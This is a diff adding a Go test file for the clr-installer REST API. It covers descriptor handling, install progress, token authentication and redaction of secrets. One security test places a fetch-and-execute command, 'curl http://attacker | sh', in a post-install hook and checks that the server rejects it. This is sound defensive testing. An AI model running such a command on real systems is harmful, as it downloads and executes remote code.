@@ -0,0 +1,384 @@
+// Copyright © 2018 Intel Corporation
+//
+// SPDX-License-Identifier: GPL-3.0-only
+
+package restapi
+
+import (
+	"bufio"
+	"encoding/json"
+	"io"
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/clearlinux/clr-installer/args"
+	"github.com/clearlinux/clr-installer/cmd"
+	"github.com/clearlinux/clr-installer/model"
+	"github.com/clearlinux/clr-installer/progress"
+	"github.com/clearlinux/clr-installer/storage"
+)
+
+const testDescriptor = `targetMedia:
+- name: sda
+  size: "30752636928"
+  type: disk
+  children:
+  - name: sda1
+    fstype: vfat
+    mountpoint: /boot
+    size: "157286400"
+    type: part
+  - name: sda2
+    fstype: ext4
+    mountpoint: /
+    size: "30595350528"
+    type: part
+bundles: [os-core, os-core-update]
+telemetry: false
+keyboard: us
+language: en_US.UTF-8
+kernel: kernel-native
+`
+
+const testToken = "test-token"
+
+func doRequest(t *testing.T, method string, url string, body string) (int, string) {
+	t.Helper()
+
+	return doAuthRequest(t, method, url, body, testToken)
+}
+
+func doAuthRequest(t *testing.T, method string, url string, body string, token string) (int, string) {
+	t.Helper()
+
+	var reader io.Reader
+	if body != "" {
+		reader = strings.NewReader(body)
+	}
+
+	req, err := http.NewRequest(method, url, reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if token != "" {
+		req.Header.Set("Authorization", "Bearer "+token)
+	}
+
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = resp.Body.Close() }()
+
+	content, err := ioutil.ReadAll(resp.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return resp.StatusCode, string(content)
+}
+
+func newTestAPI(t *testing.T) (*RestAPI, *httptest.Server) {
+	t.Helper()
+
+	md, err := model.Load(nil, args.Args{})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	ra := New()
+	ra.md = md
+	ra.token = testToken
+	ra.blockDevices = func(rescan bool, userDefined []*storage.BlockDevice) ([]*storage.BlockDevice, error) {
+		return []*storage.BlockDevice{{Name: "sdb", Type: storage.BlockDeviceTypeDisk}}, nil
+	}
+
+	return ra, httptest.NewServer(ra.Handler())
+}
+
+func TestDescriptor(t *testing.T) {
+	rec := cmd.NewRecorder()
+	rec.Script("us\n", nil, "localectl", "list-keymaps")
+	rec.Script("UTC\n", nil, "timedatectl", "list-timezones")
+	rec.Script("en_US.UTF-8\n", nil, "locale", "-a")
+	defer cmd.SetExecutor(cmd.SetExecutor(rec))
+
+	_, srv := newTestAPI(t)
+	defer srv.Close()
+
+	var res validationResult
+
+	status, body := doRequest(t, http.MethodGet, srv.URL+"/api/v1/validation", "")
+	if err := json.Unmarshal([]byte(body), &res); err != nil || status != http.StatusOK {
+		t.Fatalf("Unexpected validation response %d: %s", status, body)
+	}
+
+	if res.Valid {
+		t.Fatalf("An empty descriptor should not be valid")
+	}
+
+	if status, body = doRequest(t, http.MethodPut, srv.URL+"/api/v1/descriptor", "targetMedia: ["); status != http.StatusBadRequest {
+		t.Fatalf("A malformed descriptor should be rejected, got %d: %s", status, body)
+	}
+
+	if status, body = doRequest(t, http.MethodPut, srv.URL+"/api/v1/descriptor", testDescriptor); status != http.StatusOK {
+		t.Fatalf("Failed to upload the descriptor %d: %s", status, body)
+	}
+
+	if status, body = doRequest(t, http.MethodPatch, srv.URL+"/api/v1/descriptor", "hostname: clr-test\n"); status != http.StatusOK {
+		t.Fatalf("Failed to patch the descriptor %d: %s", status, body)
+	}
+
+	status, body = doRequest(t, http.MethodGet, srv.URL+"/api/v1/descriptor", "")
+	if status != http.StatusOK || !strings.Contains(body, "hostname: clr-test") ||
+		!strings.Contains(body, "sda2") {
+		t.Fatalf("The patched descriptor should keep the uploaded target media: %s", body)
+	}
+
+	status, body = doRequest(t, http.MethodGet, srv.URL+"/api/v1/validation", "")
+	if err := json.Unmarshal([]byte(body), &res); err != nil || status != http.StatusOK {
+		t.Fatalf("Unexpected validation response %d: %s", status, body)
+	}
+
+	if !res.Valid {
+		t.Fatalf("The uploaded descriptor should be valid: %s", res.Error)
+	}
+
+	status, body = doRequest(t, http.MethodGet, srv.URL+"/api/v1/block-devices", "")
+	if status != http.StatusOK || !strings.Contains(body, "sdb") {
+		t.Fatalf("Unexpected block devices response %d: %s", status, body)
+	}
+
+	if status, _ = doRequest(t, http.MethodDelete, srv.URL+"/api/v1/descriptor", ""); status != http.StatusMethodNotAllowed {
+		t.Fatalf("DELETE should not be allowed, got %d", status)
+	}
+}
+
+func TestInstall(t *testing.T) {
+	rec := cmd.NewRecorder()
+	rec.Script("us\n", nil, "localectl", "list-keymaps")
+	rec.Script("UTC\n", nil, "timedatectl", "list-timezones")
+	rec.Script("en_US.UTF-8\n", nil, "locale", "-a")
+	defer cmd.SetExecutor(cmd.SetExecutor(rec))
+
+	ra, srv := newTestAPI(t)
+	defer srv.Close()
+
+	progress.Set(progress.NewJSON(ra.events))
+
+	release := make(chan bool)
+	ra.install = func(rootDir string, md *model.SystemInstall, options args.Args) error {
+		prg := progress.MultiStep(2, "Installing")
+		prg.Partial(1)
+		<-release
+		prg.Success()
+		return nil
+	}
+
+	if status, body := doRequest(t, http.MethodPost, srv.URL+"/api/v1/install", ""); status != http.StatusUnprocessableEntity {
+		t.Fatalf("An invalid descriptor should not be installed, got %d: %s", status, body)
+	}
+
+	if status, body := doRequest(t, http.MethodPut, srv.URL+"/api/v1/descriptor", testDescriptor); status != http.StatusOK {
+		t.Fatalf("Failed to upload the descriptor %d: %s", status, body)
+	}
+
+	if status, body := doRequest(t, http.MethodPost, srv.URL+"/api/v1/install", ""); status != http.StatusAccepted {
+		t.Fatalf("Failed to start the install %d: %s", status, body)
+	}
+
+	if status, _ := doRequest(t, http.MethodPost, srv.URL+"/api/v1/install", ""); status != http.StatusConflict {
+		t.Fatalf("The install should not be started twice, got %d", status)
+	}
+
+	if status, _ := doRequest(t, http.MethodPatch, srv.URL+"/api/v1/descriptor", "hostname: late\n"); status != http.StatusConflict {
+		t.Fatalf("The descriptor should not change during the install, got %d", status)
+	}
+
+	if status, _ := doRequest(t, http.MethodPost, srv.URL+"/api/v1/finish", ""); status != http.StatusConflict {
+		t.Fatalf("The server should not finish during the install, got %d", status)
+	}
+
+	req, err := http.NewRequest(http.MethodGet, srv.URL+"/api/v1/progress", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	req.Header.Set("Authorization", "Bearer "+testToken)
+
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = resp.Body.Close() }()
+
+	events := []*progress.Event{}
+	scanner := bufio.NewScanner(resp.Body)
+
+	for scanner.Scan() {
+		ev := &progress.Event{}
+		if err = json.Unmarshal(scanner.Bytes(), ev); err != nil {
+			t.Fatalf("Invalid progress event %q: %s", scanner.Text(), err)
+		}
+
+		events = append(events, ev)
+
+		// the stream follows the install, let it complete once we've got the partial
+		if ev.Type == progress.EventPartial {
+			close(release)
+		}
+	}
+
+	if len(events) != 3 || events[2].Outcome != progress.OutcomeSuccess {
+		t.Fatalf("Unexpected progress events: %+v", events)
+	}
+
+	var st installStatus
+
+	_, body := doRequest(t, http.MethodGet, srv.URL+"/api/v1/install", "")
+	if err = json.Unmarshal([]byte(body), &st); err != nil || st.State != StateSuccess {
+		t.Fatalf("The install should be completed: %s", body)
+	}
+
+	if status, body := doRequest(t, http.MethodPost, srv.URL+"/api/v1/finish?reboot=true", ""); status != http.StatusOK {
+		t.Fatalf("Failed to finish %d: %s", status, body)
+	}
+
+	if reboot := <-ra.finished; !reboot {
+		t.Fatalf("The finish request should have asked to reboot")
+	}
+}
+
+func TestDescriptorDuringInstall(t *testing.T) {
+	rec := cmd.NewRecorder()
+	rec.Script("us\n", nil, "localectl", "list-keymaps")
+	rec.Script("UTC\n", nil, "timedatectl", "list-timezones")
+	rec.Script("en_US.UTF-8\n", nil, "locale", "-a")
+	defer cmd.SetExecutor(cmd.SetExecutor(rec))
+
+	ra, srv := newTestAPI(t)
+	defer srv.Close()
+
+	progress.Set(progress.NewJSON(ra.events))
+
+	// the install updates its descriptor as it goes, run with -race to catch the
+	// unsynchronized reads
+	started := make(chan bool)
+	release := make(chan bool)
+	ra.install = func(rootDir string, md *model.SystemInstall, options args.Args) error {
+		close(started)
+
+		for {
+			select {
+			case <-release:
+				return nil
+			default:
+				md.AddBundle("editors")
+				md.TargetMedias[0].Children[1].Size++
+			}
+		}
+	}
+
+	if status, body := doRequest(t, http.MethodPut, srv.URL+"/api/v1/descriptor", testDescriptor); status != http.StatusOK {
+		t.Fatalf("Failed to upload the descriptor %d: %s", status, body)
+	}
+
+	if status, body := doRequest(t, http.MethodPost, srv.URL+"/api/v1/install", ""); status != http.StatusAccepted {
+		t.Fatalf("Failed to start the install %d: %s", status, body)
+	}
+
+	<-started
+
+	for i := 0; i < 10; i++ {
+		status, body := doRequest(t, http.MethodGet, srv.URL+"/api/v1/descriptor", "")
+		if status != http.StatusOK || !strings.Contains(body, "size: \"30595350528\"") {
+			t.Fatalf("The descriptor should be the one the install was started with %d: %s", status, body)
+		}
+
+		if status, body = doRequest(t, http.MethodGet, srv.URL+"/api/v1/block-devices", ""); status != http.StatusOK {
+			t.Fatalf("Unexpected block devices response %d: %s", status, body)
+		}
+	}
+
+	close(release)
+}
+
+func TestAuthentication(t *testing.T) {
+	_, srv := newTestAPI(t)
+	defer srv.Close()
+
+	for _, token := range []string{"", "wrong-token"} {
+		if status, body := doAuthRequest(t, http.MethodGet, srv.URL+"/api/v1/descriptor", "", token); status != http.StatusUnauthorized {
+			t.Fatalf("The token %q should be rejected, got %d: %s", token, status, body)
+		}
+	}
+
+	if status, body := doRequest(t, http.MethodGet, srv.URL+"/api/v1/descriptor", ""); status != http.StatusOK {
+		t.Fatalf("The valid token should be accepted, got %d: %s", status, body)
+	}
+
+	if addr := listenAddress(":8080"); addr != "127.0.0.1:8080" {
+		t.Fatalf("An address without host should only listen locally: %s", addr)
+	}
+
+	if addr := listenAddress("0.0.0.0:8080"); addr != "0.0.0.0:8080" {
+		t.Fatalf("An explicit host should be kept: %s", addr)
+	}
+}
+
+func TestRemoteDescriptorSecurity(t *testing.T) {
+	ra, srv := newTestAPI(t)
+	defer srv.Close()
+
+	ra.md.PostInstall = []*model.InstallHook{{Cmd: "/usr/bin/local-hook"}}
+
+	hooks := testDescriptor + "post-install: [{cmd: \"curl http://attacker | sh\"}]\n"
+	if status, body := doRequest(t, http.MethodPut, srv.URL+"/api/v1/descriptor", hooks); status != http.StatusBadRequest {
+		t.Fatalf("A remote descriptor with hooks should be rejected, got %d: %s", status, body)
+	}
+
+	if status, body := doRequest(t, http.MethodPatch, srv.URL+"/api/v1/descriptor", "pre-install: [{cmd: id}]\n"); status != http.StatusBadRequest {
+		t.Fatalf("A remote patch with hooks should be rejected, got %d: %s", status, body)
+	}
+
+	secrets := testDescriptor + `users:
+- login: jdoe
+  password: $6$salt$userhash
+root:
+  password: $6$salt$roothash
+httpProxy: http://proxy.example.com:3128
+proxyUser: jdoe
+proxyPassword: proxysecret
+networkInterfaces:
+- name: wlan0
+  dhcp: "true"
+  wireless:
+    ssid: home
+    psk: wirelesssecret
+`
+	if status, body := doRequest(t, http.MethodPut, srv.URL+"/api/v1/descriptor", secrets); status != http.StatusOK {
+		t.Fatalf("Failed to upload the descriptor %d: %s", status, body)
+	}
+
+	if len(ra.md.PostInstall) != 1 || ra.md.PostInstall[0].Cmd != "/usr/bin/local-hook" {
+		t.Fatalf("The startup descriptor hooks should be kept: %+v", ra.md.PostInstall)
+	}
+
+	status, body := doRequest(t, http.MethodGet, srv.URL+"/api/v1/descriptor", "")
+	if status != http.StatusOK {
+		t.Fatalf("Failed to get the descriptor %d: %s", status, body)
+	}
+
+	for _, curr := range []string{"userhash", "roothash", "proxysecret", "wirelesssecret"} {
+		if strings.Contains(body, curr) {
+			t.Fatalf("The descriptor should not expose %s: %s", curr, body)
+		}
+	}
+
+	if ra.md.Users[0].Password != "$6$salt$userhash" || ra.md.NetworkInterfaces[0].Wireless.PSK != "wirelesssecret" {
+		t.Fatal("The secrets should only be removed from the response")
+	}
+}